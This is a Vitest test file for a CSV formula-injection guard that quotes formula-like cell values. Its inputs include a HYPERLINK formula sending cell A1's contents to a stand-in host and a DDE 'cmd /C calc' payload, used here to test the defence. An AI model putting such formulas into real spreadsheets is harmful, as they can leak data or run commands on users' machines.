import { describe, expect, it } from 'vitest';
import { guardCsvText, looksLikeFormula } from '../../electron/services/formulaGuard';

describe('the formula injection guard', () => {
  it.each(['=HYPERLINK("http://x.invalid?d="&A1;"klik")', '+31 6 12345678', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'])(
    'writes %j as text with a leading quote',
    (text) => {
      expect(looksLikeFormula(text)).toBe(true);
      expect(guardCsvText(text)).toBe(`'${text}`);
    },
  );

  it.each(['Spanningen rond een buurthuis', '', ' =spatie ervoor', '2026', 'SIG-2026-0001', 'a=b', "'al een quote"])('leaves %j as it is', (text) => {
    expect(looksLikeFormula(text)).toBe(false);
    expect(guardCsvText(text)).toBe(text);
  });
});
